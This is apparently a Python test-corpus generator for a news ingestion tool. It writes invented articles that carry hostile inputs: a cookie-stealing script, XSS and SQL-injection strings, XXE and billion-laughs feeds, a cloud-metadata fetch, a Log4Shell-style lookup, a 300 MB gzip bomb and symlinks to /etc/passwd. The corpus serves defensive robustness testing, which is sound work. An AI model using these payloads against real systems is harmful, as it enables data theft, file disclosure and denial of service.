"""The bad-input corpus: hostile, broken and tricky-but-good sources for ``newsprism ingest``.

    python tests/data/bad/make_bad.py            # rewrite the committed files (refused/, stored/, mixed/)
    python tests/data/bad/make_bad.py --all DIR  # write the whole corpus, generated and special files too

Three kinds of files (see README.md and EXPECTED.tsv):
  * committed: small files under ``refused/``, ``stored/`` and ``mixed/``, written by ``write_committed``;
  * generated: big or costly ones (``write_generated``: a 2,000,000+ character text, a gzip bomb, a JSONL line
    nested 100,000 deep, 40,000 attributes, 10,000 quotation marks, a 21 MB file), never committed;
  * special: names and links a repository cannot hold safely (``write_special``: a newline and an ESC in file
    names, a symlink to /etc/passwd, a folder symlink out of the tree, a feed linking to a loopback port).
Every article is invented; the same call always writes the same bytes.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import sys
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
WARC_DATE = "2024-05-14T08:00:00Z"

# ----------------------------------------------------------------------------------- article bodies

_PLACES = [
    "Valmora", "Tarvik", "Olsund", "Bramley", "Kestrel Bay", "Port Arlen", "Nyeri Falls", "Salto Verde",
    "Kaunsby", "Ilmore", "Dunmarsh", "Corrin", "Halvik", "Medrano", "Ostrava Nova", "Quillon",
]  # fmt: skip
_PEOPLE = [
    "Amara Okonkwo", "Lars Petersen", "Mei Lin", "Rafael Ortiz", "Sofia Novak", "Kwame Mensah", "Ingrid Holm",
    "Tariq Aziz", "Elena Rossi", "Hiroshi Tanaka", "Priya Nair", "Jonas Weber", "Ruth Calloway", "Dario Fenn",
]  # fmt: skip
_BODIES = [
    ("harbour board", "approve a new container terminal", "fishing crews"),
    ("city council", "close two branch libraries", "parents and teachers"),
    ("water utility", "raise household rates by 9 percent", "pensioners"),
    ("school district", "move to a four-day week", "working parents"),
    ("regional hospital", "shut its night-time maternity ward", "midwives"),
    ("transit authority", "cut the late bus routes", "night-shift workers"),
    ("county board", "sell the old fairground to a developer", "farmers"),
    ("port authority", "ban cruise ships from the inner harbour", "shop owners"),
    ("university senate", "end free tuition for local students", "student unions"),
    ("energy regulator", "allow a wind farm on the northern ridge", "hill walkers"),
]
_MONTHS = ["January", "March", "April", "June", "September", "October", "November"]


@dataclass(frozen=True)
class Story:
    title: str
    paragraphs: list[str]

    @property
    def text(self) -> str:
        return "\n\n".join([self.title, *self.paragraphs]) + "\n"

    def html_paragraphs(self) -> str:
        return "\n".join(f"<p>{_escape(p)}</p>" for p in self.paragraphs)


def story(n: int, title: str | None = None) -> Story:
    """A distinct invented news article (n selects place, people, subject and numbers)."""
    place, other = _PLACES[n % len(_PLACES)], _PLACES[(n * 7 + 3) % len(_PLACES)]
    chair, critic = _PEOPLE[n % len(_PEOPLE)], _PEOPLE[(n * 5 + 2) % len(_PEOPLE)]
    body, plan, group = _BODIES[n % len(_BODIES)]
    votes_for, votes_against = 5 + n % 4, 2 + n % 3
    cost, hours, month = 12 + 3 * n, 3 + n % 6, _MONTHS[n % len(_MONTHS)]
    title = title or f"{place} {body} votes to {plan} after {hours}-hour meeting"
    return Story(
        title,
        [
            f"The {body} in {place} voted {votes_for} to {votes_against} on Tuesday to {plan}, ending a "
            f"dispute that had divided the town for {n + 4} months and filled every public hearing since "
            f"the spring.",
            f'"This is the right decision for {place} and for the people who depend on it," said {chair}, '
            f"who chairs the {body}, after the vote. She said the plan would cost about {cost} million euros "
            f"over five years.",
            f"Opponents said the decision would fall hardest on {group} and promised to challenge it at the "
            f"regional court in {other}. {critic}, who led a petition signed by {900 + 37 * n} residents, "
            f"called the vote rushed.",
            f"The first changes take effect in {month}, the {body} said in a statement, and a review of the "
            f"plan is due within two years.",
        ],
    )


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def html_page(s: Story, head: str = "", before: str = "", after: str = "") -> str:
    return (
        f'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>{_escape(s.title)}</title>'
        f"{head}</head>\n<body>\n<article>\n<h1>{_escape(s.title)}</h1>\n{before}{s.html_paragraphs()}\n"
        f"{after}</article>\n</body></html>\n"
    )


def rss(items: list[str], title: str = "Valmora Gazette", doctype: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{doctype}<rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/">\n<channel>\n'
        f"<title>{title}</title>\n<link>https://valmora-gazette.example/</link>\n"
        "<description>News from the valley</description>\n" + "\n".join(items) + "\n</channel>\n</rss>\n"
    )


def rss_item(s: Story | None, link: str, title: str | None = None, extra: str = "") -> str:
    content = f"<content:encoded><![CDATA[{s.html_paragraphs()}{extra}]]></content:encoded>" if s else ""
    return (
        f"<item><title>{_escape(title or (s.title if s else 'Untitled'))}</title><link>{_escape(link)}</link>"
        f"<pubDate>Tue, 14 May 2024 08:00:00 +0000</pubDate>{content}</item>"
    )


def jsonl(records: list[object]) -> str:
    # ensure_ascii: lone surrogates and control characters travel as JSON escapes in an ASCII file.
    return "".join(json.dumps(r, ensure_ascii=True) + "\n" for r in records)


# ------------------------------------------------------------------------------------------- WARC


def _record_id(n: int) -> str:
    return f"<urn:uuid:6e657773-7072-6973-6d62-{n:012x}>"


def warc_response(n: int, url: str, body: bytes, ctype: str = "text/html; charset=utf-8") -> bytes:
    """One uncompressed WARC/1.0 response record (what warcio writes, with fixed id and date)."""
    http = (
        f"HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(body)}\r\nServer: nginx\r\n\r\n"
    ).encode() + body
    return _warc_record("response", n, url, http, "application/http; msgtype=response")


def _warc_record(
    rec_type: str, n: int, url: str | None, block: bytes, ctype: str, length: int | None = None
) -> bytes:
    headers = [f"WARC-Type: {rec_type}", f"WARC-Record-ID: {_record_id(n)}", f"WARC-Date: {WARC_DATE}"]
    if url:
        headers.append(f"WARC-Target-URI: {url}")
    headers += [f"Content-Type: {ctype}", f"Content-Length: {len(block) if length is None else length}"]
    return ("WARC/1.0\r\n" + "\r\n".join(headers) + "\r\n\r\n").encode() + block + b"\r\n\r\n"


def warcinfo(n: int) -> bytes:
    block = b"software: newsprism bad-input corpus\r\nformat: WARC File Format 1.0\r\n"
    return _warc_record("warcinfo", n, None, block, "application/warc-fields")


def gzip_member(data: bytes) -> bytes:
    """One gzip member per record, as warcio and Heritrix write them (mtime 0: reproducible)."""
    return gzip.compress(data, compresslevel=9, mtime=0)


def _story_html(n: int) -> bytes:
    return html_page(story(n)).encode()


def warc_article_url(n: int) -> str:
    return f"https://valmora-gazette.example/news/{n:03d}-{story(n).title.lower().replace(' ', '-')[:40]}"


def truncated_warc(complete: bool = False) -> bytes:
    """warcinfo (#1), article 30 (#2), article 31 (#3) gzipped per record; #3 cut short unless complete."""
    members = [
        gzip_member(warcinfo(1)),
        gzip_member(warc_response(2, warc_article_url(30), _story_html(30))),
        gzip_member(warc_response(3, warc_article_url(31), _story_html(31))),
    ]
    data = b"".join(members)
    # Cut near the end of #3: most of its text survives, so a reader that ignores the error stores a part.
    return data if complete else data[: len(data) - len(members[2]) // 6]


# ------------------------------------------------------------------------------------ committed files


def _binary_png() -> bytes:
    rng = random.Random(1)
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(rng.randrange(256) for _ in range(3000))


def _binary_elf() -> bytes:
    rng = random.Random(2)
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + bytes(rng.randrange(256) for _ in range(3000))


def _undecodable() -> bytes:
    # High bytes only, most of them unassigned in every single-byte code page charset-normalizer tries.
    rng = random.Random(3)
    return b"Headline\n\n" + bytes(rng.randrange(0x80, 0x100) for _ in range(3000)) + b"\n"


def _mixed_utf8_latin1() -> bytes:
    s = story(20, title="Café owners in Zürich protest new terrace rules")
    utf8_part = "\n\n".join([s.title, s.paragraphs[0], s.paragraphs[1]]).encode("utf-8")
    latin1_part = (
        "A naïve reading of the rules, said one owner in the Niederdorf, would close half the façades "
        "on the street before the summer season began."
    ).encode("latin-1")
    return utf8_part + b"\n\n" + latin1_part + b"\n\n" + s.paragraphs[3].encode("utf-8") + b"\n"


def _cp1252() -> bytes:
    s = story(21, title="Société des ports names new director after a year without one")
    text = s.text.replace('"', "\u201c", 1).replace('," said', ",\u201d said", 1)
    return text.encode("cp1252")


def _corrupt_member_warc() -> bytes:
    good = gzip_member(warc_response(1, warc_article_url(32), _story_html(32)))
    bad = bytearray(gzip_member(warc_response(2, warc_article_url(33), _story_html(33))))
    for i in range(len(bad) // 3, len(bad) // 3 + 40):  # overwrite part of the deflate stream
        bad[i] ^= 0x5A
    return good + bytes(bad)


def _content_length_overflow_warc() -> bytes:
    first = warc_response(1, warc_article_url(34), _story_html(34))
    body = _story_html(35)
    http = (
        f"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode() + body
    # The header promises 4,000 bytes more than the file holds: the record ends early.
    second = _warc_record(
        "response", 2, warc_article_url(35), http, "application/http; msgtype=response", len(http) + 4000
    )
    return first + second[:-4]


def _warc_no_html() -> bytes:
    robots = b"User-agent: *\nDisallow: /admin/\n"
    return (
        gzip_member(warcinfo(1))
        + gzip_member(warc_response(2, "https://valmora-gazette.example/robots.txt", robots, "text/plain"))
        + gzip_member(
            warc_response(3, "https://valmora-gazette.example/logo.png", _binary_png(), "image/png")
        )
    )


def _hostile_html() -> str:
    s = story(22, title="Court hears case over hacked comment forms at the Valmora Gazette")
    attack = _escape('<script>alert("xss")</script> and <img src=x onerror=alert(1)>')
    head = (
        '<script>document.location="http://127.0.0.1:9/steal?c="+document.cookie</script>'
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
        '<base href="file:///etc/"><link rel="stylesheet" href="http://localhost/evil.css">'
    )
    before = (
        "<p>Prosecutors said the attackers typed the string "
        f"{attack} into the newspaper's comment form, and that one field also accepted {{{{7*7}}}} and "
        "${7*7}, which a template engine would have turned into 49.</p>\n"
        '<img src="x" onerror="alert(2)"><svg onload="alert(3)"></svg>'
        '<iframe src="javascript:alert(4)"></iframe>\n'
    )
    after = (
        '<p onmouseover="alert(5)">Read the <a href="javascript:alert(6)">full indictment</a> or the '
        '<a href="file:///etc/passwd">court file</a>, the newspaper said in a note to readers.</p>\n'
        "<script>fetch('http://169.254.169.254/latest/meta-data/')</script>\n"
    )
    return html_page(s, head=head, before=before, after=after)


def _entities_html() -> str:
    s = story(23, title="Harbour pilots strike over night shifts & pay")
    odd = (
        "<p>The pilots' statement, reproduced here as sent, contained the characters &#0; &#x1B;[2J "
        "&#xD800; &#x202E;evil&#x202C; &#65533; and &amp;lt;script&amp;gt; before its signature, "
        "which the union later blamed on its e-mail software.</p>"
    )
    return html_page(s, after=odd)


def deep_divs_html(depth: int = 1000) -> str:
    s = story(24)
    return html_page(s, before="<div>" * depth, after="</div>" * depth)


def _xxe_feed() -> str:
    doctype = (
        '<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
        '<!ENTITY remote SYSTEM "http://127.0.0.1:9/evil.dtd">\n]>\n'
    )
    s = story(25)
    return rss([rss_item(s, "https://valmora-gazette.example/xxe", extra="<p>Signed: &xxe; &remote;</p>")],
               doctype=doctype)  # fmt: skip


def _billion_laughs_feed() -> str:
    lines = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    doctype = "<!DOCTYPE rss [\n" + "\n".join(lines) + "\n]>\n"
    s = story(26)
    return rss(
        [
            rss_item(
                s, "https://valmora-gazette.example/laughs", title="Laughter &lol9;", extra="<p>&lol9;</p>"
            )
        ],
        doctype=doctype,
    )


def _xss_feed() -> str:
    s = story(27, title="Ferry operator <b>[bold]recalls[/bold]</b> two boats")
    extra = (
        '<script>alert(1)</script><img src=x onerror=alert(2)><p><a href="javascript:alert(3)">More</a></p>'
    )
    return rss([rss_item(s, "https://valmora-gazette.example/ferry", extra=extra)])


def _links_feed() -> str:
    links = [
        "file:///etc/passwd",
        "/etc/passwd",
        "../secret.html",
        "../../../../../../etc/passwd",
        "subdir/../../secret.html",
        "http://127.0.0.1:9/admin",
        "http://localhost/",
        "http://[::1]:8080/",
        "http://169.254.169.254/latest/meta-data/",
        "\\\\fileserver\\share\\secret.html",
    ]
    return rss([rss_item(None, link, title=f"Link {i}") for i, link in enumerate(links, start=1)])


def _mixed_feed() -> str:
    return rss(
        [
            rss_item(story(28), "https://valmora-gazette.example/one"),
            rss_item(None, "../secret.html", title="Linked out of the folder"),
            rss_item(story(29), "https://valmora-gazette.example/three"),
        ]
    )


def committed_files() -> dict[str, bytes]:
    """Relative name -> bytes of every committed file."""
    s = story
    files: dict[str, str | bytes] = {
        # --- whole file refused
        "refused/binary_png.txt": _binary_png(),
        "refused/binary_elf.html": _binary_elf(),
        "refused/pdf_named.xml": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + _binary_elf()[16:],
        "refused/nul_bytes.jsonl": b'{"title": "a\x00b", "text": "' + b"\x00" * 200 + b'"}\n',
        "refused/control_heavy.txt": b"Headline\n\n" + bytes([1, 2, 3, 4, 5, 6, 7, 8, 11, 14]) * 60,
        "refused/empty.txt": b"",
        "refused/empty.html": b"",
        "refused/empty.jsonl": b"",
        "refused/empty.rss": b"",
        "refused/empty.warc.gz": b"",
        "refused/whitespace_only.txt": b"  \n\t\n \r\n   \n",
        "refused/whitespace_only.html": b"\n\n      \t\n",
        "refused/blank_lines.jsonl": b"\n\n   \n\n",
        "refused/too_short.txt": "Council meets\n\nThe council met on Tuesday.\n",
        "refused/zero_width_only.txt": "\u200b\u200c\u200d\ufeff\u2060\n\u200b\u200b\n",
        "refused/undecodable.txt": _undecodable(),
        "refused/[red]markup[/red] name.txt": "Short\n\nToo short to be an article [/b].\n",
        "refused/no_markup.html": s(40).text,
        "refused/no_text.html": "<!DOCTYPE html><html><head><title>x</title></head><body><div></div></body></html>\n",
        # Content below libxml2's 256-level depth limit is cut off: nothing left to store.
        "refused/deep_divs.html": deep_divs_html(),
        "refused/script_only.html": (
            "<html><head><style>body{}</style></head><body><script>var a = 1;</script>"
            "<noscript>Enable JavaScript.</noscript></body></html>\n"
        ),
        "refused/not_objects.jsonl": '[1, 2, 3]\n"just a string"\nnull\n42\n',
        "refused/no_text_field.jsonl": jsonl(
            [{"title": "No body", "url": "https://x.example/a"}, {"text": 42}, {"html": None, "title": "t"}]
        ),
        "refused/empty_text.jsonl": jsonl([{"title": "Blank", "text": "   \n  "}]),
        "refused/no_entries.rss": rss([]),
        "refused/not_a_feed.xml": (
            '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><text>not a feed</text></svg>\n'
        ),
        "refused/links_feed.rss": _links_feed(),
        "refused/corrupt_gzip.warc.gz": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + _binary_elf()[8:400],
        "refused/gzip_not_warc.warc.gz": gzip_member(s(41).text.encode()),
        "refused/not_a_warc.warc": s(42).text,
        "refused/warc_no_html.warc.gz": _warc_no_html(),
        "refused/bad_sidecar.txt": s(43).text,
        "refused/bad_sidecar.meta.json": '{"outlet": "Valmora Gazette", "published": ',
        "refused/sidecar_not_object.txt": s(44).text,
        "refused/sidecar_not_object.meta.json": '["outlet", "Valmora Gazette"]\n',
        # --- good but tricky: must be stored (correctly decoded, sanitised, inert)
        "stored/mixed_utf8_latin1.txt": _mixed_utf8_latin1(),
        "stored/cp1252.txt": _cp1252(),
        "stored/utf16le_nobom.txt": s(1, title="Pérez wins the harbour pilots’ election").text.encode(
            "utf-16-le"
        ),
        "stored/utf16be_nobom.txt": s(2, title="Nuñez named port director").text.encode("utf-16-be"),
        "stored/utf16_bom.txt": s(3).text.encode("utf-16"),
        "stored/utf8_bom.txt": b"\xef\xbb\xbf" + s(4).text.encode(),
        "stored/crlf.txt": s(5).text.replace("\n", "\r\n").encode(),
        "stored/cr_only.txt": s(6).text.replace("\n", "\r").encode(),
        "stored/rich_markup_title.txt": s(7, title="Budget vote [/b] passes [bold red]at last[/]").text,
        "stored/sic_brackets.txt": s(8).text.replace(
            '"This is the right decision',
            '"The council have [sic] made the right call, and [the council] knows it. This is the right '
            "decision",
        ),
        "stored/esc_sequences.txt": s(
            9, title="Mayor \x1b[31mresigns\x1b[0m\x1b]0;pwned\x07 after audit"
        ).text
        + "The audit, released as \x1b[2J\x1b[H a PDF, ran to 40 pages.\n",
        "stored/template_injection.txt": s(10).text
        + "Readers who typed {{7*7}}, ${7*7}, <%= 7*7 %>, {% raw %} or ${jndi:ldap://127.0.0.1/a} into the "
        "survey were not counted, the council said.\n",
        "stored/xss_text.txt": s(11).text
        + 'The letter ended with <script>alert("xss")</script>, <img src=x onerror=alert(1)> and a '
        "javascript:alert(1) link, the police said.\n",
        "stored/bidi_override.txt": s(12, title="Port fees \u202ereversed\u202c for small boats").text,
        "stored/single_long_line.txt": s(13).title
        + "\n"
        + " ".join(f"({i}) {p}" for i, p in enumerate(s(13).paragraphs * 3))
        + "\n",
        "stored/hostile_sidecar.txt": s(14).text,
        "stored/hostile_sidecar.meta.json": json.dumps(
            {
                "url": "file:///etc/passwd",
                "outlet": "[bold red]Evil[/] Gazette\x1b[0m",
                "published": "not a date",
                "author": "Robert'); DROP TABLE article;--",
            }
        ),
        "stored/surrogates.jsonl": jsonl(
            [
                {
                    "title": "Harbour \ud800 vote delayed again",
                    "author": "\udcff",
                    "outlet": "Valmora \udfff Gazette",
                    "url": "https://valmora-gazette.example/surrogates",
                    "text": s(15).text.replace("voted", "voted \udc80", 1),
                }
            ]
        ),
        "stored/control_chars.jsonl": jsonl(
            [
                {
                    "title": "Ferry\u0000 strike \u001b[2Jends\u0007",
                    "author": "Mei\u009b Lin",
                    "url": "https://valmora-gazette.example/control",
                    "text": s(16).text.replace("voted", "vo\u0000ted \u001b[31m", 1),
                }
            ]
        ),
        "stored/sql_injection.jsonl": jsonl(
            [
                {
                    "title": "Robert'); DROP TABLE article;-- named treasurer",
                    "url": "https://valmora-gazette.example/a?id=1' OR '1'='1",
                    "outlet": 'Gazette"; DELETE FROM outlet; --',
                    "text": s(17).text,
                }
            ]
        ),
        "stored/odd_metadata.jsonl": jsonl(
            [
                {
                    "title": "Ilmore school board race tightens",
                    "published": "2024-02-30",
                    "author": [{"name": "Priya Nair"}, None, 42],
                    "outlet": {"name": "Ilmore Herald"},
                    "url": "javascript:alert(1)",
                    "text": s(18).text,
                    "extra": {"nested": [[[[{"deep": True}]]]]},
                }
            ]
        ),
        "stored/hostile.html": _hostile_html(),
        "stored/entities.html": _entities_html(),
        "stored/xxe_feed.rss": _xxe_feed(),
        "stored/billion_laughs.rss": _billion_laughs_feed(),
        "stored/xss_feed.rss": _xss_feed(),
        # --- one file, records with different outcomes
        "mixed/bad_lines.jsonl": "".join(
            [
                jsonl(
                    [{"title": s(50).title, "text": s(50).text, "url": "https://valmora-gazette.example/l1"}]
                ),
                '{"title": "Unterminated", "text": "the string never ends\n',
                jsonl(
                    [{"title": s(51).title, "text": s(51).text, "url": "https://valmora-gazette.example/l3"}]
                ),
                "[1, 2]\n",
                "\n",
                jsonl(
                    [{"title": s(52).title, "text": s(52).text, "url": "https://valmora-gazette.example/l6"}]
                ),
                '{"title": "No body at all"}\n',
                "{'single': 'quotes'}\n",
            ]
        ),
        "mixed/feed_mixed.rss": _mixed_feed(),
        "mixed/truncated.warc.gz": truncated_warc(),
        "mixed/corrupt_member.warc.gz": _corrupt_member_warc(),
        "mixed/content_length_overflow.warc": _content_length_overflow_warc(),
    }
    return {k: v.encode("utf-8") if isinstance(v, str) else v for k, v in files.items()}


def write_committed(folder: Path = HERE) -> list[Path]:
    out = []
    for name, data in committed_files().items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        out.append(path)
    return out


# ------------------------------------------------------------------------- generated (big) files


def long_text(chars: int, seed: int = 5) -> str:
    """A plain-text article of at least ``chars`` characters of distinct paragraphs (no duplicates to drop)."""
    rng = random.Random(seed)
    words = (
        "harbour council budget ferry pilots terminal inspection committee regional ministry statement "
        "engineers contractors residents petition hearing schedule dredging warehouse shipment customs"
    ).split()
    parts = ["Harbour inquiry publishes its full record", ""]
    size, n = 0, 0
    while size < chars:
        n += 1
        sentence = " ".join(rng.choice(words) for _ in range(14))
        paragraph = f"Section {n}: the {sentence}, the record says in part {n}."
        parts.append(paragraph + "\n")
        size += len(paragraph) + 2
    parts.append("The record ends with this closing paragraph, marker END-OF-RECORD.\n")
    return "\n".join(parts)


def quote_marks_text(marks: int) -> str:
    """An article with ``marks`` quotation marks: many short quotes, some never closed."""
    s = story(60)
    pieces, used, i = [s.title, ""], 0, 0
    while used < marks:
        i += 1
        if i % 7 == 0:
            pieces.append(f'He said "we will see {i} and then left.')  # unbalanced on purpose
            used += 1
        else:
            pieces.append(f'"Point {i}," said {_PEOPLE[i % len(_PEOPLE)]}. "We disagree."')
            used += 4
    return "\n".join([*pieces, "", *s.paragraphs]) + "\n"


def many_attributes_html(attributes: int) -> str:
    # Short distinct names (a0, a1, ... in hex): a million of them still fit under the default --max-mb 20.
    attrs = " ".join(f"a{i:x}=1" for i in range(attributes))
    return html_page(story(61), before=f"<div {attrs}>", after="</div>")


def many_lines_text(lines: int) -> str:
    s = story(62)
    # Short lines, so that 50,000 of them stay under the raw-size refusal and reach the cleaner.
    body = "\n".join(f"Ship {i} docked." for i in range(lines))
    return f"{s.title}\n\n{s.paragraphs[0]}\n\n{body}\n"


def deep_json_line(depth: int) -> str:
    return "[" * depth + "]" * depth


def deep_nesting_jsonl(depth: int) -> str:
    return (
        jsonl(
            [{"title": story(63).title, "text": story(63).text, "url": "https://valmora-gazette.example/d1"}]
        )
        + deep_json_line(depth)
        + "\n"
        + jsonl(
            [{"title": story(64).title, "text": story(64).text, "url": "https://valmora-gazette.example/d3"}]
        )
    )


def _bomb_chunks(total: int) -> Iterator[bytes]:
    # A period that divides deflate's window evenly: about 1,000:1, as in the issue (306 KB to 300 MB).
    chunk = b"lol " * 65536
    written = 0
    while written < total:
        part = chunk[: total - written]
        written += len(part)
        yield part


def write_gzip_bomb_warc(path: Path, decompressed_mb: int = 300, http_gzip: bool = False) -> Path:
    """A WARC whose HTML payload inflates to ``decompressed_mb`` MB from a few hundred KB, streamed.

    http_gzip=False: a .warc.gz record (the record's own gzip member inflates). True: an uncompressed WARC
    whose HTTP body says ``Content-Encoding: gzip`` (warcio inflates it while reading the payload)."""
    total = decompressed_mb * 1024 * 1024
    url = "https://valmora-gazette.example/bomb"
    prefix = b"<!DOCTYPE html><html><head><title>Bomb</title></head><body><article><p>"
    with path.open("wb") as fh:
        if http_gzip:
            body = io.BytesIO()
            comp = zlib.compressobj(9, zlib.DEFLATED, 31)
            body.write(comp.compress(prefix))
            for part in _bomb_chunks(total):
                body.write(comp.compress(part))
            body.write(comp.flush())
            payload = body.getvalue()
            http = (
                "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Encoding: gzip\r\n"
                f"Content-Length: {len(payload)}\r\n\r\n"
            ).encode() + payload
            fh.write(_warc_record("response", 1, url, http, "application/http; msgtype=response"))
            return path
        http_head = (
            "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n"
            f"Content-Length: {len(prefix) + total}\r\n\r\n"
        ).encode()
        block_len = len(http_head) + len(prefix) + total
        warc_head = _warc_record("response", 1, url, b"", "application/http; msgtype=response", block_len)
        warc_head = warc_head[:-4]  # the header without the record's closing CRLFs, written after the block
        comp = zlib.compressobj(9, zlib.DEFLATED, 31)
        fh.write(comp.compress(warc_head + http_head + prefix))
        for part in _bomb_chunks(total):
            fh.write(comp.compress(part))
        fh.write(comp.compress(b"\r\n\r\n"))
        fh.write(comp.flush())
    return path


# Sizes of the generated corpus files (the stress benchmark uses bigger ones).
LONG_TEXT_CHARS = 2_100_000  # over spaCy's 2,000,000-character limit in nlp.MAX_CHARS
QUOTE_MARKS = 10_000
ATTRIBUTES = 40_000
JSON_DEPTH = 100_000
BOMB_MB = 300
OVERSIZE_BYTES = 21 * 1024 * 1024  # over the default --max-mb 20


def write_generated(folder: Path) -> list[Path]:
    """The big files of the corpus into ``folder/generated`` (manifest names ``generated/...``)."""
    gen = folder / "generated"
    gen.mkdir(parents=True, exist_ok=True)
    texts = {
        "long_text.txt": long_text(LONG_TEXT_CHARS),
        "quote_marks.txt": quote_marks_text(QUOTE_MARKS),
        "attributes_40k.html": many_attributes_html(ATTRIBUTES),
        "deep_nesting.jsonl": deep_nesting_jsonl(JSON_DEPTH),
    }
    out = []
    for name, text in texts.items():
        (gen / name).write_text(text, "utf-8")
        out.append(gen / name)
    out.append(write_gzip_bomb_warc(gen / "gzip_bomb.warc.gz", BOMB_MB))
    oversize = gen / "oversize.txt"
    with oversize.open("wb") as fh:  # sparse: 21 MB on paper, nothing on disk; refused on its size alone
        fh.truncate(OVERSIZE_BYTES)
    out.append(oversize)
    return out


# ------------------------------------------------------------------------------ special files


NEWLINE_NAME = "new\nline.txt"
ESC_NAME = "esc\x1b[31mred.txt"


def write_special(folder: Path, outside: Path, loopback_port: int = 9) -> list[Path]:
    """Names and links a repository should not hold, into ``folder/special``; ``outside`` is a folder
    outside ``folder`` (gets one good article, reachable only through a folder symlink)."""
    sp = folder / "special"
    sp.mkdir(parents=True, exist_ok=True)
    short = "Short note\n\nNot enough words here to be an article.\n"
    (sp / NEWLINE_NAME).write_text(short, "utf-8")
    (sp / ESC_NAME).write_text(short, "utf-8")
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "outside_article.txt").write_text(story(70).text, "utf-8")
    (outside / "secret.html").write_text(html_page(story(71, title="SECRET canary page")), "utf-8")
    links = [
        (sp / "passwd.txt", Path("/etc/passwd")),
        (sp / "outside_dir", outside),
        (sp / "secret_link.html", outside / "secret.html"),
    ]
    for link, target in links:
        if link.is_symlink() or link.exists():
            link.unlink()
        link.symlink_to(target, target_is_directory=target.is_dir())
    feed = sp / "loopback_feed.rss"
    feed.write_text(
        rss(
            [
                rss_item(None, f"http://127.0.0.1:{loopback_port}/article", title="Loopback"),
                rss_item(None, f"http://localhost:{loopback_port}/", title="Localhost"),
                rss_item(None, "secret_link.html", title="Local symlink out of the tree"),
            ]
        ),
        "utf-8",
    )
    return [sp / NEWLINE_NAME, sp / ESC_NAME, *(link for link, _ in links), feed]


def write_all(folder: Path, outside: Path, loopback_port: int = 9) -> None:
    write_committed(folder)
    write_generated(folder)
    write_special(folder, outside, loopback_port)


if __name__ == "__main__":
    if len(sys.argv) == 3 and sys.argv[1] == "--all":
        target = Path(sys.argv[2])
        write_all(target, target.parent / (target.name + "_outside"))
        print(f"wrote the whole corpus to {target}")
    elif len(sys.argv) == 1:
        written = write_committed(HERE)
        print(f"wrote {len(written)} committed files under {HERE}")
    else:
        sys.exit(__doc__)
